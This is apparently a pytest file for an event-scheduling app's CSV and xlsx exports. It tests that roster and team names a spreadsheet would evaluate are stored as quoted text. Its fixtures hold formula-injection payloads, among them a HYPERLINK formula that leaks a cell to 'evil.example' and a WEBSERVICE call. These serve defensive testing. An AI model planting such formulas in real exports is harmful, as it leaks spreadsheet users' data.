"""Exports that cannot run formulas: a roster name a spreadsheet would evaluate is written as
text in every CSV and xlsx Rota makes (the links table, attendance, results), read back here
with openpyxl and the csv module as the organiser's spreadsheet would see it."""

from __future__ import annotations

import csv
import io
import zipfile
from collections.abc import AsyncIterator
from pathlib import Path

import openpyxl
import pytest

from schedules.results import results, results_csv
from schedules.scoring import Criterion, Score, Scoring
from schedules.tabular import csv_text, neutralise, xlsx_bytes
from tests.support.app import AUTH, start_app
from tests.support.builders import BASE_CSV, write_event

LEAK = '=HYPERLINK("http://evil.example/?leak="&H2,"Click me")'
HOSTILE = {"a1": LEAK, "a2": "+WEBSERVICE(A1)", "a3": "-2+3", "j1": "@SUM(A1)"}


def hostile_roster() -> str:
    lines = BASE_CSV.splitlines()
    out = [lines[0]]
    for line in lines[1:]:
        pid, _name, rest = line.split(",", 2)
        name = HOSTILE.get(pid)
        out.append(f'{pid},"{name.replace(chr(34), chr(34) * 2)}",{rest}' if name else line)
    return "\n".join(out) + "\n"


@pytest.fixture
async def event(tmp_path: Path) -> AsyncIterator:
    programme = write_event(tmp_path / "event", csv=hostile_roster())
    running = await start_app(programme, data_dir=tmp_path / "var")
    yield running
    await running.stop()


@pytest.mark.parametrize(
    ("cell", "safe"),
    [
        (LEAK, "'" + LEAK),
        ("+1+2", "'+1+2"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "' =1"),  # control characters go (a tab becomes a space), the rule stays
        ("\r=1", "' =1"),
        ("Ana\u202eavliS", "AnaavliS"),
        ("-0.52", "-0.52"),  # a plain number stays a number
        ("Ana", "Ana"),
        (3, 3),
    ],
)
def test_a_cell_a_spreadsheet_would_evaluate_is_prefixed(cell: object, safe: object) -> None:
    assert neutralise(cell) == safe  # type: ignore[arg-type]


def test_xlsx_stores_every_text_as_a_string() -> None:
    data = xlsx_bytes([["name"], [LEAK], ["=1+1"]])
    sheet = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet
    book = openpyxl.load_workbook(io.BytesIO(data)).active
    assert book is not None
    values = [c.value for (c,) in book.iter_rows()]
    assert values == ["name", "'" + LEAK, "'=1+1"]
    assert csv_text([[LEAK]]) == '"\'=HYPERLINK(""http://evil.example/?leak=""&H2,""Click me"")"\n'


def names_in_sheet(data: bytes) -> set[str]:
    assert b"<f>" not in zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml")
    book = openpyxl.load_workbook(io.BytesIO(data))
    assert book.active is not None
    rows = list(book.active.iter_rows())
    column = [c.value for c in rows[0]].index("name")
    assert all(row[column].data_type == "s" for row in rows[1:])
    return {str(row[column].value) for row in rows[1:]}


def names_in_csv(text: str, column: str = "name") -> set[str]:
    return {row[column] for row in csv.DictReader(io.StringIO(text))}


def expected() -> set[str]:
    return {"'" + name for name in HOSTILE.values()}


async def test_the_links_xlsx_holds_no_formula(event, http) -> None:
    response = await http.get(f"{event.base_url}/api/v1/participants?format=xlsx", headers=AUTH)
    assert response.status_code == 200
    assert expected() <= names_in_sheet(response.content)


async def test_the_links_csv_neutralises_names(event, http) -> None:
    response = await http.get(f"{event.base_url}/api/v1/participants?format=csv", headers=AUTH)
    assert expected() <= names_in_csv(response.content.decode("utf-8-sig"))


async def test_the_attendance_csv_neutralises_names(event, http) -> None:
    url = f"{event.base_url}/api/v1/keynotes/k1/attendance?format=csv"
    response = await http.get(url, headers=AUTH)
    assert response.status_code == 200
    names = names_in_csv(response.text)
    assert "'" + HOSTILE["a2"] in names and HOSTILE["a2"] not in names


def test_the_results_csv_neutralises_team_names() -> None:
    scoring = Scoring((Criterion("q", "Quality", 0, 100),))
    found = results(scoring, ["t1"], [Score("j", "t1", {"q": 60}, "")], samples=0)
    text = results_csv(found, scoring, {"t1": LEAK})
    assert "'" + LEAK in {cell for row in csv.reader(io.StringIO(text)) for cell in row}
